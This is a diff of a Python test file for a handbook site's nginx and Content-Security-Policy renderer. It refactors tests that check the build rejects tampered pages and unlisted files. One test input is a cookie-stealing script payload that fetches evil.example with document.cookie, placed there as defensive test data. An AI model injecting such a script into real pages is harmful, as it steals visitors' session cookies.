@@ -263,6 +263,14 @@ def test_render_refuses_inline_code_hashes_cannot_allow(tmp_path):
         render_nginx.build_csp(tmp_path)
 
 
+@pytest.fixture
+def site_copy(site, tmp_path) -> Path:
+    """A copy of the built handbook to tamper with."""
+    copy = tmp_path / "site"
+    shutil.copytree(site, copy)
+    return copy
+
+
 @pytest.mark.parametrize("injected,reason", [
     ("<script>fetch('https://evil.example/?' + document.cookie)</script>", "unreviewed inline script"),
     ("<style>body { display: none }</style>", "unreviewed inline style"),
@@ -274,14 +282,12 @@ def test_render_refuses_inline_code_hashes_cannot_allow(tmp_path):
     ('<img src="a.png" srcset="x.png 1x, https://evil.example/y.png 2x" alt="">', "<img srcset>"),
     ('<img src="https://ex\uff0fample.com/a.png" alt="">', "格式看不懂"),
 ])
-def test_render_refuses_a_site_with_unreviewed_or_active_inline_code(site, tmp_path, injected, reason):
-    copy = tmp_path / "site"
-    shutil.copytree(site, copy)
-    page = copy / PLAYBOOK / "index.html"
+def test_render_refuses_a_site_with_unreviewed_or_active_inline_code(site_copy, injected, reason):
+    page = site_copy / PLAYBOOK / "index.html"
     page.write_text(page.read_text(encoding="utf-8").replace("</article>", injected + "</article>", 1),
                     encoding="utf-8")
     with pytest.raises(SystemExit, match=re.escape(reason)):
-        render_nginx.build_csp(copy)
+        render_nginx.build_csp(site_copy)
 
 
 @pytest.mark.parametrize("name,content,reason", [
@@ -292,21 +298,17 @@ def test_render_refuses_a_site_with_unreviewed_or_active_inline_code(site, tmp_p
     ("feed.xml", "<x/>", "feed.xml: a .xml file outside the reviewed paths"),
     ("zh-Hans/page.xhtml", "<x/>", "zh-Hans/page.xhtml: an HTML page the build did not write"),
 ])
-def test_render_refuses_a_site_with_a_page_or_script_the_build_did_not_write(site, tmp_path, name, content, reason):
-    copy = tmp_path / "site"
-    shutil.copytree(site, copy)
-    (copy / name).parent.mkdir(parents=True, exist_ok=True)
-    (copy / name).write_text(content, encoding="utf-8")
+def test_render_refuses_a_site_with_a_page_or_script_the_build_did_not_write(site_copy, name, content, reason):
+    (site_copy / name).parent.mkdir(parents=True, exist_ok=True)
+    (site_copy / name).write_text(content, encoding="utf-8")
     with pytest.raises(SystemExit, match=re.escape(reason)):
-        render_nginx.build_csp(copy)
+        render_nginx.build_csp(site_copy)
 
 
-def test_render_needs_the_builds_list_of_pages(site, tmp_path):
-    copy = tmp_path / "site"
-    shutil.copytree(site, copy)
-    (copy / ".handbook-pages.json").unlink()
+def test_render_needs_the_builds_list_of_pages(site_copy):
+    (site_copy / ".handbook-pages.json").unlink()
     with pytest.raises(SystemExit, match="handbook-pages.json missing"):
-        render_nginx.build_csp(copy)
+        render_nginx.build_csp(site_copy)
 
 
 def test_the_builds_list_holds_every_page_of_both_editions_and_every_script_is_at_a_reviewed_path(site):
